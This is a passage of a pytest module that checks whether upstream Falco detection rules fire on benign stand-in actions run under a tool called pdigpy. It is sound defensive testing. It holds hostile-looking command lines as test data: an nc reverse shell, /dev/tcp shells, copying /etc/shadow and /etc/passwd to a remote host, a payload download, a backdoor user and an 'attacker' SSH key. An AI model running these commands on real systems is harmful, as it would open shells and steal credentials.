"""Upstream Falco rules on live programs (issue 4, part 3).

Each case is a real, harmless action that the named upstream rule is meant to catch,
run under the real ``pdigpy`` command with the upstream rules file loaded unchanged.
Every case runs twice: on the host (no container metadata: container.id is ``host``)
and "in a container" (pdigpy started with ECS_CONTAINER_METADATA_URI_V4 pointing at a
local Fargate task metadata endpoint). A rule gated on the ``container`` macro must fire
only in the container; a rule gated on ``not container`` only on the host; the others in
both. The alert's output fields must name the process/file that did it, and the
container pdigpy saw. docs/upstream-compat.md is the table of these results.
"""

from __future__ import annotations

import os
import pwd
import shutil
import sys
import uuid
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pytest
from ecs_metadata import CONTAINER_ID, CONTAINER_IP, CONTAINER_NAME
from upstream_ctx import Ctx
from upstream_live import (CORPUS, INCUBATING, SANDBOX, STABLE, Action, check_fields, predicate,
                           run_upstream)



def _own_cgroup_container() -> str | None:
    """The container this machine's own cgroups name, if any (then "host" is not testable)."""
    from pdigpy.engine.fields.container import parse_container_id

    try:
        found = parse_container_id(Path("/proc/self/cgroup").read_text().splitlines())
    except OSError:
        return None
    return found[0] if found else None


pytestmark = [
    pytest.mark.skipif(not (CORPUS / STABLE).is_file(), reason=f"upstream corpus not found at {CORPUS}"),
    pytest.mark.skipif(_own_cgroup_container() is not None,
                       reason="the tests run in a container named by cgroups: neither 'host' nor the ECS "
                              "metadata's container would be reported"),
]

BASH = os.path.realpath(shutil.which("bash") or "/bin/bash")
TRUE = os.path.realpath(shutil.which("true") or "/bin/true")
IS_ROOT = os.geteuid() == 0


def _nobody() -> pwd.struct_passwd | None:
    try:
        return pwd.getpwnam("nobody")
    except KeyError:
        return None


NOBODY = _nobody()


def has_cap(number: int) -> bool:
    """Whether this process has capability NUMBER in its effective set (the traced app inherits it)."""
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("CapEff:"):
            return bool(int(line.split()[1], 16) >> number & 1)
    return False


CAP_NET_RAW, CAP_SYS_MODULE, CAP_SYS_CHROOT, CAP_SYS_ADMIN = 13, 16, 18, 21

nonzero = predicate("non-zero", lambda v: v not in (0, None, ""))


def need(condition: bool, why: str) -> None:
    if not condition:
        pytest.skip(why)


def as_nobody(argv: list[str]) -> list[str]:
    need(NOBODY is not None and shutil.which("setpriv") is not None and IS_ROOT,
         "needs root, setpriv and a 'nobody' user")
    return ["setpriv", f"--reuid={NOBODY.pw_uid}", f"--regid={NOBODY.pw_gid}", "--clear-groups", *argv]


# --------------------------------------------------------------------------- actions
# Each builder sets up what the action needs under ctx.work (removed after the test) and
# returns the Action; anything created elsewhere goes to ctx.cleanup first.


def read_shadow(c: Ctx) -> Action:
    need(os.access("/etc/shadow", os.R_OK), "/etc/shadow not readable")
    return Action(["cat", "/etc/shadow"], {"fd.name": "/etc/shadow", "proc.name": "cat", "evt.type": "openat"})


def server_reads_shadow_after_startup(c: Ctx) -> Action:
    """A 'web server' (bash named httpd) reads /etc/shadow after its first 5 seconds."""
    need(os.access("/etc/shadow", os.R_OK), "/etc/shadow not readable")
    httpd = c.symlink("httpd", BASH)
    return Action([str(httpd), "-c", "sleep 5.3; read -r _ < /etc/shadow; true"],
                  {"fd.name": "/etc/shadow", "proc.name": "httpd"}, timeout=60)


def traversal_read(c: Ctx) -> Action:
    raw = f"{c.work}/../../etc/passwd"  # /tmp/<dir>/../../etc/passwd is /etc/passwd
    return Action(["cat", raw], {"fd.name": "/etc/passwd", "fd.nameraw": raw, "proc.name": "cat"})


def web_server_spawns_shell(c: Ctx) -> Action:
    nginx = c.symlink("nginx", BASH)
    return Action([str(nginx), "-c", "sh -c true; true"], {"proc.name": "sh", "proc.pname": "nginx"})


def system_user_login(c: Ctx) -> Action:
    login = c.symlink("login", TRUE)
    return Action(as_nobody([str(login)]), {"proc.name": "login", "user.name": "nobody"})


def terminal_shell(c: Ctx) -> Action:
    """A shell with a controlling terminal, started by the runtime (a bash named runc)."""
    need(shutil.which("setsid") is not None, "needs util-linux setsid")
    runc = c.symlink("runc", BASH)
    return Action([str(runc), "-c", "bash -c true; true"],
                  {"proc.name": "bash", "proc.pname": "runc", "proc.tty": nonzero}, tty=True)


def contact_k8s_api(c: Ctx) -> Action:
    """Connect to kubernetes.default.svc.cluster.local (a listener on 127.77.0.1). A private
    mount namespace gives both pdigpy (which resolves the rule's domain name) and the app an
    /etc/hosts naming it. The connection must succeed: like Falco, pdigpy gives a refused
    connect's socket no server address."""
    need(IS_ROOT and shutil.which("unshare") is not None, "needs root and unshare for a private /etc/hosts")
    port = c.listener("127.77.0.1").port
    hosts = c.work / "hosts"
    hosts.write_text("127.0.0.1 localhost\n"
                     "127.77.0.1 kubernetes.default.svc.cluster.local kubernetes.default.svc kubernetes\n")
    wrap = ["unshare", "--mount", "--propagation", "private", "sh", "-c",
            'mount --bind "$0" /etc/hosts && exec "$@"', str(hosts)]
    return Action([BASH, "-c", f"exec 3<>/dev/tcp/kubernetes.default.svc.cluster.local/{port}"],
                  {"fd.rport": port, "proc.name": "bash",
                   "fd.name": predicate(f"ends with ->127.77.0.1:{port}",
                                        lambda v: v.endswith(f"->127.77.0.1:{port}"))},
                  wrap=wrap)


def netcat_exec(c: Ctx) -> Action:
    nc = c.symlink("nc", TRUE)  # a stand-in named nc: never opens a socket
    return Action([str(nc), "-e", "/bin/sh", "127.0.0.1", "4444"],
                  {"proc.name": "nc", "proc.cmdline": "nc -e /bin/sh 127.0.0.1 4444"})


def netcat_scan(c: Ctx) -> Action:
    nc = c.symlink("nc", TRUE)
    return Action([str(nc), "-z", "127.0.0.1", "1-1024"], {"proc.name": "nc"})


def find_private_keys(c: Ctx) -> Action:
    return Action(["find", str(c.work), "-name", "id_rsa"], {"proc.name": "find"})


def grep_private_keys(c: Ctx) -> Action:
    (c.work / "notes.txt").write_text("nothing to see\n")
    return Action(["grep", "-rl", "BEGIN RSA PRIVATE", str(c.work)], {"proc.name": "grep"})


def truncate_log(c: Ctx) -> Action:
    need(os.access("/var/log", os.W_OK), "/var/log not writable")
    log = Path(f"/var/log/pdigpy-test-{uuid.uuid4().hex[:12]}.log")
    c.cleanup.append(log)
    log.write_text("evidence\n")
    return Action(["cp", "/dev/null", str(log)], {"fd.name": str(log), "proc.name": "cp"})


def shred_file(c: Ctx) -> Action:
    need(shutil.which("shred") is not None, "no shred")
    victim = c.work / "victim.db"
    victim.write_bytes(b"x" * 4096)
    return Action(["shred", "-u", str(victim)], {"proc.name": "shred"})


def symlink_shadow(c: Ctx) -> Action:
    link = c.work / "shadow-link"
    return Action(["ln", "-s", "/etc/shadow", str(link)],
                  {"evt.arg.target": "/etc/shadow", "evt.arg.linkpath": str(link), "proc.name": "ln"})


def hardlink_shadow(c: Ctx) -> Action:
    """ln /etc/shadow to another filesystem: the kernel refuses (EXDEV), the attempt is seen.
    Without a second filesystem, a missing directory makes it fail (ENOENT) instead."""
    dest = Path(f"/dev/shm/pdigpy-test-{uuid.uuid4().hex[:12]}")
    if not (Path("/dev/shm").is_dir() and os.stat("/dev/shm").st_dev != os.stat("/etc/shadow").st_dev):
        dest = c.work / "missing-dir" / "shadow"
    c.cleanup.append(dest)
    return Action(["ln", "/etc/shadow", str(dest)],
                  {"evt.arg.oldpath": "/etc/shadow", "evt.arg.newpath": str(dest), "proc.name": "ln",
                   "evt.type": "linkat"})


def packet_socket(c: Ctx) -> Action:
    need(has_cap(CAP_NET_RAW), "AF_PACKET needs CAP_NET_RAW")
    return Action([str(c.actions), "packet-socket"],
                  {"evt.type": "socket", "proc.name": "actions",
                   "evt.args": predicate("names AF_PACKET", lambda v: "AF_PACKET" in v)})


def redirect_stdout_to_socket(c: Ctx) -> Action:
    port = c.listener().port
    return Action([BASH, "-c", f"exec 1>/dev/tcp/127.0.0.1/{port}; echo pdigpy-redirect"],
                  {"evt.type": "dup2", "fd.type": "ipv4", "fd.rport": port, "proc.name": "bash"})


def init_module_garbage(c: Ctx) -> Action:
    need(has_cap(CAP_SYS_MODULE), "the rule wants CAP_SYS_MODULE in thread.cap_effective")
    return Action([str(c.actions), "init-module"], {"evt.type": "init_module", "proc.name": "actions"})


def finit_module_garbage(c: Ctx) -> Action:
    need(has_cap(CAP_SYS_MODULE), "the rule wants CAP_SYS_MODULE in thread.cap_effective")
    ko = c.work / "rootkit.ko"
    ko.write_bytes(b"\0not a kernel module\0" * 8)
    return Action([str(c.actions), "finit-module", str(ko)], {"evt.type": "finit_module", "proc.name": "actions"})


def write_release_agent(c: Ctx) -> Action:
    """Write a file named release_agent (a private one, not a cgroup's)."""
    need(IS_ROOT and has_cap(CAP_SYS_ADMIN), "the rule wants uid 0 with CAP_SYS_ADMIN")
    target = c.work / "release_agent"
    return Action(["sh", "-c", 'echo /tmp/payload > "$0"', str(target)],
                  {"fd.name": str(target), "proc.name": "sh",
                   "thread.cap_effective": predicate("has CAP_SYS_ADMIN", lambda v: "CAP_SYS_ADMIN" in v)})


def ptrace_attach(c: Ctx) -> Action:
    target = c.sleeper()
    return Action([str(c.actions), "ptrace-attach", str(target.pid)],
                  {"proc.name": "actions", "evt.type": "ptrace",
                   "proc.cmdline": f"actions ptrace-attach {target.pid}"})


def ptrace_traceme(c: Ctx) -> Action:
    return Action([str(c.actions), "ptrace-traceme"], {"proc.name": "actions", "evt.type": "ptrace"})


def find_aws_credentials(c: Ctx) -> Action:
    return Action(["find", str(c.work), "-path", "*/.aws/credentials"], {"proc.name": "find"})


def exec_from_dev_shm(c: Ctx) -> Action:
    need(Path("/dev/shm").is_dir() and os.access("/dev/shm", os.W_OK), "no writable /dev/shm")
    need(not _noexec("/dev/shm"), "/dev/shm is mounted noexec")
    binary = Path(f"/dev/shm/pdigpy-test-{uuid.uuid4().hex[:12]}")
    c.cleanup.append(binary)
    shutil.copy(TRUE, binary)
    binary.chmod(0o755)
    return Action([str(binary)], {"proc.exepath": str(binary)})


def _noexec(path: str) -> bool:
    for line in Path("/proc/mounts").read_text().splitlines():
        parts = line.split()
        if len(parts) >= 4 and parts[1] == path:
            return "noexec" in parts[3].split(",")
    return False


# Runs inside a private network namespace (wrap): gives lo the address $1 with a TCP
# listener on port $2 (a stand-in for a remote server) plus the task's own address
# (CONTAINER_IP), and when pdigpy is asked to run "in a container", an ECS metadata
# endpoint reachable from inside that namespace.
_NETNS_SETUP = r'''
ip link set lo up && ip addr add "$1/32" dev lo && ip addr add "$PDIGPY_TEST_OWN_IP/32" dev lo || exit 97
"$PDIGPY_TEST_PYTHON" "$PDIGPY_TEST_ECS" "$0" "$1:$2" &
i=0; while [ ! -s "$0" ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done
[ -s "$0" ] || exit 98
if [ -n "$ECS_CONTAINER_METADATA_URI_V4" ]; then
  ECS_CONTAINER_METADATA_URI_V4=$(cat "$0"); export ECS_CONTAINER_METADATA_URI_V4
fi
shift 2
exec "$@"
'''


def in_netns(c: Ctx, address: str, port: int, hosts: str | None = None) -> tuple[list[str], dict[str, str]]:
    """(wrap, env) running pdigpy in a private network namespace where ADDRESS:PORT listens;
    with ``hosts``, also in a private mount namespace where /etc/hosts has that content."""
    need(IS_ROOT and shutil.which("unshare") is not None and shutil.which("ip") is not None,
         "needs root, unshare and ip for a private network namespace")
    ready = c.work / f"netns-ready-{uuid.uuid4().hex[:6]}"
    script = _NETNS_SETUP
    unshare = ["unshare", "--net"]
    if hosts is not None:
        hosts_file = c.work / f"hosts-{uuid.uuid4().hex[:6]}"
        hosts_file.write_text(hosts)
        unshare += ["--mount", "--propagation", "private"]
        script = f'mount --bind "{hosts_file}" /etc/hosts || exit 97\n' + script
    wrap = [*unshare, "sh", "-c", script, str(ready), address, str(port)]
    env = {"PDIGPY_TEST_PYTHON": sys.executable, "PDIGPY_TEST_OWN_IP": CONTAINER_IP,
           "PDIGPY_TEST_ECS": str(Path(__file__).with_name("ecs_metadata.py"))}
    return wrap, env


def ssh_non_standard_port(c: Ctx) -> Action:
    """ssh to port 4444 of a non-private address (198.51.100.7, TEST-NET-2, on lo in a netns)."""
    need(shutil.which("ssh") is not None, "no ssh client")
    wrap, env = in_netns(c, "198.51.100.7", 4444)
    argv = ["ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=3", "-o", "StrictHostKeyChecking=no",
            "-o", "UserKnownHostsFile=/dev/null", "-p", "4444", "pdigpy@198.51.100.7", "true"]
    return Action(argv, {"proc.name": "ssh", "fd.rport": 4444, "fd.l4proto": "tcp",
                         "fd.name": predicate("ends with ->198.51.100.7:4444",
                                              lambda v: v.endswith("->198.51.100.7:4444"))},
                  wrap=wrap, env=env)


def instance_metadata_tcp(c: Ctx) -> Action:
    """Connect to 169.254.169.254:80 (the instance metadata service, on lo in a netns)."""
    wrap, env = in_netns(c, "169.254.169.254", 80)
    return Action([BASH, "-c", "exec 3<>/dev/tcp/169.254.169.254/80"],
                  {"proc.name": "bash", "evt.type": "connect", "fd.rport": 80,
                   "fd.name": predicate("ends with ->169.254.169.254:80",
                                        lambda v: v.endswith("->169.254.169.254:80"))},
                  wrap=wrap, env=env)


def instance_metadata_udp_sendto(c: Ctx) -> Action:
    """An unconnected UDP sendto() to 169.254.169.254 (the outbound macro's sendto branch).

    The socket is bound to the task's address first: an unbound one has client address
    0.0.0.0 (in Falco too: the kernel keeps no source address for it), and the outbound
    macro's ``fd.ip != "0.0.0.0"`` (true only if both ends differ) then rules it out."""
    wrap, env = in_netns(c, "169.254.169.254", 80)
    code = ("import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
            f"s.bind(('{CONTAINER_IP}', 0)); "
            "s.sendto(b'GET /latest/meta-data/', ('169.254.169.254', 53)); s.close()")
    return Action([sys.executable, "-S", "-c", code],
                  {"evt.type": "sendto", "fd.l4proto": "udp", "fd.rport": 53,
                   "fd.name": predicate("ends with ->169.254.169.254:53",
                                        lambda v: v.endswith("->169.254.169.254:53"))},
                  wrap=wrap, env=env)


def memfd_exec(c: Ctx) -> Action:
    return Action([str(c.actions), "memfd-exec", TRUE],
                  {"evt.type": "execveat", "proc.exepath": predicate("a memfd", lambda v: "memfd:" in v)})


def memfd_exec_by_proc_path(c: Ctx) -> Action:
    """execve("/proc/self/fd/N") of a memfd, as falcosecurity/event-generator does it."""
    return Action([str(c.actions), "memfd-exec-path", TRUE],
                  {"evt.type": "execve", "proc.exepath": predicate("a memfd", lambda v: "memfd:" in v)})


def debugfs_version(c: Ctx) -> Action:
    need(shutil.which("debugfs") is not None, "no debugfs")
    return Action(["debugfs", "-V"], {"proc.name": "debugfs"})


def exec_dropped_binary(c: Ctx) -> Action:
    """Run a binary written after the container started (the drop-and-execute pattern)."""
    dropped = c.work / "kworkerd"
    shutil.copy(TRUE, dropped)
    dropped.chmod(0o755)
    return Action([str(dropped)], {"proc.exepath": str(dropped)})


def entrypoint_with_all_caps(c: Ctx) -> Action:
    """The container's command, run as root with every capability (CAP_SYS_ADMIN included)."""
    return Action([TRUE], {"proc.name": "true"})


def chmod_setuid(c: Ctx) -> Action:
    target = c.work / "helper"
    target.write_bytes(b"#!/bin/sh\n")
    return Action(["chmod", "u+s", str(target)],
                  {"proc.name": "chmod", "evt.arg.mode": predicate("has S_ISUID", lambda v: "S_ISUID" in v)})


def glibc_tunables(c: Ctx) -> Action:
    return Action([TRUE], {"proc.name": "true", "proc.env": predicate("has GLIBC_TUNABLES",
                                                                        lambda v: "GLIBC_TUNABLES=" in v)},
                  env={"GLIBC_TUNABLES": "glibc.tune.hwcaps=-AVX2_Usable"})


def read_proc_environ(c: Ctx) -> Action:
    return Action(["cat", "/proc/self/environ"], {"fd.name": "/proc/self/environ", "proc.name": "cat"})


def package_manager(c: Ctx) -> Action:
    apt = c.symlink("apt-get", TRUE)  # a stand-in: installs nothing
    return Action([str(apt), "install", "-y", "netcat-openbsd"], {"proc.name": "apt-get"})


def crontab(c: Ctx) -> Action:
    tab = c.symlink("crontab", TRUE)  # a stand-in: schedules nothing
    return Action([str(tab), "-l"], {"proc.name": "crontab"})


def nsenter_own_netns(c: Ctx) -> Action:
    """setns() into the namespace it is already in: a no-op that still makes the call."""
    need(IS_ROOT and shutil.which("nsenter") is not None, "needs root and nsenter")
    return Action(["nsenter", "--net=/proc/self/ns/net", TRUE], {"proc.name": "nsenter", "evt.type": "setns"})


def unprivileged_userfaultfd(c: Ctx) -> Action:
    return Action(as_nobody([str(c.actions), "userfaultfd"]),
                  {"proc.name": "actions", "user.name": "nobody", "evt.type": "userfaultfd"})


def write_shell_config(c: Ctx) -> Action:
    rc = c.work / ".bashrc"
    rc.write_text("# user's shell config\n")
    return Action(["cp", "/dev/null", str(rc)], {"fd.name": str(rc), "proc.name": "cp"})


def read_ssh_known_hosts(c: Ctx) -> Action:
    """Read /home/<test user>/.ssh/known_hosts (a home created for the test, removed after)."""
    need(IS_ROOT and Path("/home").is_dir(), "needs root and /home")
    home = Path(f"/home/pdigpy-test-{uuid.uuid4().hex[:12]}")
    c.cleanup.append(home)
    (home / ".ssh").mkdir(parents=True)
    known = home / ".ssh" / "known_hosts"
    known.write_text("198.51.100.7 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPdigpyTestKeyNotReal\n")
    return Action(["cat", str(known)], {"fd.name": str(known), "proc.name": "cat"})


def setuid_root_as_nobody(c: Ctx) -> Action:
    """An unprivileged process asks for uid 0 (refused with EPERM; the attempt is the signal)."""
    return Action(as_nobody([str(c.actions), "setuid", "0"]),
                  {"proc.name": "actions", "user.name": "nobody", "evt.type": "setuid"})


def unshare_user_ns_unprivileged(c: Ctx) -> Action:
    need(shutil.which("unshare") is not None, "no unshare")
    return Action(as_nobody(["unshare", "--user", TRUE]),
                  {"proc.name": "unshare", "evt.type": "unshare", "user.name": "nobody"})


def bpf_prog_load(c: Ctx) -> Action:
    return Action([str(c.actions), "bpf-prog-load"], {"proc.name": "actions", "evt.type": "bpf"})


def curl_with_proxy_env(c: Ctx) -> Action:
    """curl run with HTTP_PROXY set (by env(1): only the app has it, see the proxy bug test)."""
    curl = c.symlink("curl", TRUE)  # a stand-in named curl: no network
    return Action(["env", "HTTP_PROXY=http://198.51.100.7:3128", str(curl), "http://example.com/"],
                  {"proc.name": "curl", "proc.env": predicate("has HTTP_PROXY", lambda v: "HTTP_PROXY=" in v)})


def useradd_stand_in(c: Ctx) -> Action:
    useradd = c.symlink("useradd", TRUE)  # a stand-in named useradd: adds nobody
    return Action([str(useradd), "-m", "backdoor"], {"proc.name": "useradd"})


def db_server_spawns_shell(c: Ctx) -> Action:
    mysqld = c.symlink("mysqld", BASH)
    return Action([str(mysqld), "-c", "sh -c true; true"], {"proc.name": "sh", "proc.pname": "mysqld"})


def tar_from_runtime(c: Ctx) -> Action:
    """`kubectl cp` from a pod: the runtime (here a bash named runc) runs tar, no tty."""
    runc = c.symlink("runc", BASH)
    data = c.work / "data.txt"
    data.write_text("customer records\n")
    # (GNU tar reads nothing when the archive is /dev/null: write a real one)
    return Action([str(runc), "-c", f"tar -cf {c.work}/out.tar {data}; true"],
                  {"proc.name": "tar", "proc.pname": "runc", "fd.name": str(data)})


def sshd_loads_backdoored_liblzma(c: Ctx) -> Action:
    sshd = c.symlink("sshd", os.path.realpath(shutil.which("cat") or "/bin/cat"))
    lib = c.work / "liblzma.so.5.6.1"
    lib.write_bytes(b"\x7fELF not really\n")
    return Action([str(sshd), str(lib)], {"proc.name": "sshd", "fd.name": str(lib)})


def _temp_below(directory: str, c: Ctx, prefix: str = "pdigpy-test-") -> Path:
    need(os.access(directory, os.W_OK), f"{directory} not writable")
    path = Path(directory) / f"{prefix}{uuid.uuid4().hex[:12]}"
    c.cleanup.append(path)
    return path


def write_below_etc(c: Ctx) -> Action:
    target = _temp_below("/etc", c)
    return Action(["cp", "/dev/null", str(target)], {"fd.name": str(target), "proc.name": "cp"})


def write_below_bin(c: Ctx) -> Action:
    target = _temp_below("/usr/bin", c)
    return Action(["cp", "/dev/null", str(target)], {"fd.name": str(target), "proc.name": "cp"})


def mkdir_below_bin(c: Ctx) -> Action:
    target = _temp_below("/usr/bin", c)
    return Action(["mkdir", str(target)], {"evt.arg.path": str(target), "proc.name": "mkdir"})


def remove_from_bin(c: Ctx) -> Action:
    target = _temp_below("/usr/bin", c)
    target.write_bytes(b"")
    return Action(["rm", "-f", str(target)], {"proc.name": "rm"})


def write_below_root(c: Ctx) -> Action:
    target = _temp_below("/root", c)
    return Action(["cp", "/dev/null", str(target)], {"fd.name": str(target), "proc.name": "cp"})


def interactive_whoami(c: Ctx) -> Action:
    """whoami typed in an interactive shell on a terminal: job control gives it its own group."""
    need(shutil.which("setsid") is not None and shutil.which("whoami") is not None, "needs setsid and whoami")
    return Action([BASH, "--norc", "--noprofile", "-i", "-c", "whoami; true"],
                  {"proc.name": "whoami", "proc.tty": nonzero}, tty=True)


def stratum_miner(c: Ctx) -> Action:
    worker = c.symlink("worker", TRUE)
    return Action([str(worker), "-o", "stratum+tcp://pool.example.net:3333", "-u", "wallet"], {"proc.name": "worker"})


def xmrig(c: Ctx) -> Action:
    miner = c.symlink("xmrig", TRUE)
    return Action([str(miner), "--version"], {"proc.name": "xmrig"})


def base64_decode(c: Ctx) -> Action:
    need(shutil.which("base64") is not None, "no base64")
    payload = c.work / "payload.b64"
    payload.write_text("ZWNobyBoZWxsbwo=\n")
    return Action(["base64", "-d", str(payload)], {"proc.name": "base64"})


def kubectl_stand_in(c: Ctx) -> Action:
    kubectl = c.symlink("kubectl", TRUE)
    return Action([str(kubectl), "get", "secrets", "-A"], {"proc.name": "kubectl"})


def web_server_reverse_shell(c: Ctx) -> Action:
    port = c.listener().port
    nginx = c.symlink("nginx", BASH)
    return Action([str(nginx), "-c", f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}'; true"],
                  {"proc.name": "bash", "proc.pname": "nginx",
                   "proc.cmdline": predicate("names /dev/tcp/", lambda v: "/dev/tcp/" in v)})


def read_disk_device(c: Ctx) -> Action:
    """Open the machine's disk read-only and read nothing (dd count=0)."""
    disks = sorted(p for p in Path("/dev").iterdir() if p.name[:2] in ("sd", "vd") or p.name[:3] in ("xvd", "nvm"))
    need(bool(disks), "no /dev/sd*, /dev/vd*, /dev/xvd* or /dev/nvme* device")
    try:
        os.close(os.open(disks[0], os.O_RDONLY))
    except OSError as exc:
        pytest.skip(f"cannot open {disks[0]} here ({exc.strerror}): the device cgroup forbids it")
    return Action(["dd", f"if={disks[0]}", "of=/dev/null", "count=0", "status=none"],
                  {"fd.name": str(disks[0]), "proc.name": "dd"})


def delete_shell_history(c: Ctx) -> Action:
    history = c.work / ".bash_history"
    history.write_text("cat /etc/shadow\n")
    return Action(["rm", "-f", str(history)], {"proc.name": "rm", "evt.type": "unlinkat"})


def scp_stand_in(c: Ctx) -> Action:
    scp = c.symlink("scp", TRUE)
    return Action([str(scp), "/etc/passwd", "pdigpy@198.51.100.7:/tmp/"], {"proc.name": "scp"})


def curl_download(c: Ctx) -> Action:
    curl = c.symlink("curl", TRUE)
    return Action([str(curl), "-s", "-o", "/tmp/x", "http://198.51.100.7/payload"], {"proc.name": "curl"})


def udp_connect(c: Ctx) -> Action:
    """A UDP "connection" (connect on a datagram socket) to a non-local port 4444."""
    wrap, env = in_netns(c, "198.51.100.7", 4444)
    return Action([BASH, "-c", "exec 3<>/dev/udp/198.51.100.7/4444"],
                  {"evt.type": "connect", "fd.l4proto": "udp", "fd.rport": 4444}, wrap=wrap, env=env)


def npm_install_runs_nc(c: Ctx) -> Action:
    npm = c.symlink("npm", BASH)  # "npm install" whose postinstall script runs nc
    nc = c.symlink("nc", TRUE)
    return Action([str(npm), "-c", f"{nc} -z 198.51.100.7 4444; true", "install"],
                  {"proc.name": "nc", "proc.pname": "npm"})


def web_server_runs_whoami(c: Ctx) -> Action:
    nginx = c.symlink("nginx", BASH)
    return Action([str(nginx), "-c", "whoami; true"], {"proc.name": "whoami", "proc.pname": "nginx"})


def sudoedit_backslash(c: Ctx) -> Action:
    sudoedit = c.symlink("sudoedit", TRUE)  # a stand-in: CVE-2021-3156's argument shape
    return Action([str(sudoedit), "-s", "\\", "/etc/hosts"], {"proc.name": "sudoedit"})


def pkexec_no_args(c: Ctx) -> Action:
    pkexec = c.symlink("pkexec", TRUE)  # a stand-in: CVE-2021-4034 runs pkexec with argc 0
    return Action([str(pkexec)], {"proc.name": "pkexec"})


def write_apt_source(c: Ctx) -> Action:
    need(Path("/etc/apt/sources.list.d").is_dir(), "no /etc/apt/sources.list.d")
    target = _temp_below("/etc/apt/sources.list.d", c)
    return Action(["cp", "/dev/null", str(target)], {"fd.name": str(target), "proc.name": "cp"})


def write_below_usr_local_bin(c: Ctx) -> Action:
    need(Path("/usr/local/bin").is_dir(), "no /usr/local/bin")
    target = _temp_below("/usr/local/bin", c)
    return Action(["cp", "/dev/null", str(target)], {"fd.name": str(target), "proc.name": "cp"})


def create_file_below_dev(c: Ctx) -> Action:
    target = _temp_below("/dev", c)
    return Action(["cp", "/dev/null", str(target)], {"fd.name": str(target), "proc.name": "cp"})


def add_authorized_key(c: Ctx) -> Action:
    """Append a key to /home/<test user>/.ssh/authorized_keys (a home created for the test)."""
    need(IS_ROOT and Path("/home").is_dir(), "needs root and /home")
    home = Path(f"/home/pdigpy-test-{uuid.uuid4().hex[:12]}")
    c.cleanup.append(home)
    (home / ".ssh").mkdir(parents=True)
    keys = home / ".ssh" / "authorized_keys"
    return Action(["sh", "-c", 'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPdigpyTestKeyNotReal attacker" >> "$0"',
                   str(keys)], {"fd.name": str(keys), "proc.name": "sh"})


# Rules disabled upstream (enabled: false), run with -o 'rules[]={enable: {rule: ...}}'.


def mkdir_hidden(c: Ctx) -> Action:
    hidden = c.work / ".cache-x"
    return Action(["mkdir", str(hidden)], {"proc.name": "mkdir", "evt.type": "mkdir",
                                           "proc.cmdline": f"mkdir {hidden}"})


def chmod_executable(c: Ctx) -> Action:
    target = c.work / "payload.sh"
    target.write_text("#!/bin/sh\n")
    return Action(["chmod", "u+x", str(target)],
                  {"proc.name": "chmod", "evt.arg.mode": predicate("has S_IXUSR", lambda v: "S_IXUSR" in v)})


def create_executable(c: Ctx) -> Action:
    """cp of an executable creates the copy with exec bits in open()'s mode (evt.is_open_exec)."""
    target = c.work / "dropped"
    return Action(["cp", TRUE, str(target)], {"proc.name": "cp", "evt.arg.name": str(target),
                                              "evt.arg.mode": predicate("executable", lambda v: int(v, 8) & 0o111)})


def java_downloads_class(c: Ctx) -> Action:
    """A process named java recvfrom()s a class file (magic CAFEBABE) from a local server."""
    port = c.listener(greeting=bytes.fromhex("cafebabe0000003d") + b"\0" * 24).port
    java = c.symlink("java", os.path.realpath(sys.executable))
    code = ("import socket; s = socket.create_connection(('127.0.0.1', %d)); "
            "data, _ = s.recvfrom(4096); s.close()" % port)
    return Action([str(java), "-S", "-c", code], {"proc.name": "java", "evt.type": "recvfrom", "fd.rport": port})


def read_shell_config(c: Ctx) -> Action:
    rc = c.work / ".bashrc"
    rc.write_text("alias ll='ls -l'\n")
    return Action(["cat", str(rc)], {"fd.name": str(rc), "proc.name": "cat"})


def python_connects_out(c: Ctx) -> Action:
    wrap, env = in_netns(c, "198.51.100.7", 4444)
    python3 = c.symlink("python3", os.path.realpath(sys.executable))
    code = "import socket; socket.create_connection(('198.51.100.7', 4444)).close()"
    return Action([str(python3), "-S", "-c", code],
                  {"proc.name": "python3", "evt.type": "connect", "fd.rport": 4444}, wrap=wrap, env=env)


def python_accepts_in(c: Ctx) -> Action:
    """A python server on 198.51.100.7:4445 accepts a connection (from itself, in a netns)."""
    wrap, env = in_netns(c, "198.51.100.7", 4444)
    python3 = c.symlink("python3", os.path.realpath(sys.executable))
    code = ("import socket; srv = socket.socket(); srv.bind(('198.51.100.7', 4445)); srv.listen(1); "
            "cli = socket.create_connection(('198.51.100.7', 4445)); conn, _ = srv.accept(); "
            "conn.close(); cli.close(); srv.close()")
    # As in Falco, the first alert is the listen: a socket bound to a port is a server socket whose
    # fd.ip is its bound address (not 0.0.0.0), and its fd.lport is missing (no peer yet).
    return Action([str(python3), "-S", "-c", code],
                  {"proc.name": "python3", "evt.type": "listen", "fd.name": "198.51.100.7:4445"},
                  wrap=wrap, env=env)


def connect_nodeport(c: Ctx) -> Action:
    """Connect to a Kubernetes NodePort-range port (30080) of a non-local address (private netns)."""
    wrap, env = in_netns(c, "198.51.100.7", 30080)
    return Action([BASH, "-c", "exec 3<>/dev/tcp/198.51.100.7/30080"],
                  {"proc.name": "bash", "evt.type": "connect", "fd.rport": 30080}, wrap=wrap, env=env)


def connect_miner_pool(c: Ctx) -> Action:
    """Connect to asia1.ethpool.org:3333, which a private /etc/hosts maps to 198.51.100.7 in a
    private network namespace (pdigpy resolves the rule's ~70 pool names there too)."""
    wrap, env = in_netns(c, "198.51.100.7", 3333,
                         hosts="127.0.0.1 localhost\n198.51.100.7 asia1.ethpool.org\n")
    return Action([BASH, "-c", "exec 3<>/dev/tcp/asia1.ethpool.org/3333"],
                  {"proc.name": "bash", "evt.type": "connect", "fd.rport": 3333}, wrap=wrap, env=env)


def read_host_path(c: Ctx) -> Action:
    """Read /host/etc/shadow, as a container with the host's root mounted at /host would. The
    helper chroots into a temp dir holding host/etc/shadow (a dummy): the path the rule sees is
    the one the process passes, like in Falco, which does not follow chroot either."""
    need(has_cap(CAP_SYS_CHROOT), "chroot needs CAP_SYS_CHROOT")
    fake = c.work / "host" / "etc" / "shadow"
    fake.parent.mkdir(parents=True)
    fake.write_text("root:*:19000:0:99999:7:::\n")
    return Action([str(c.actions), "chroot-read", str(c.work), "/host/etc/shadow"],
                  {"fd.name": "/host/etc/shadow", "proc.name": "actions"})


def write_rpm_database(c: Ctx) -> Action:
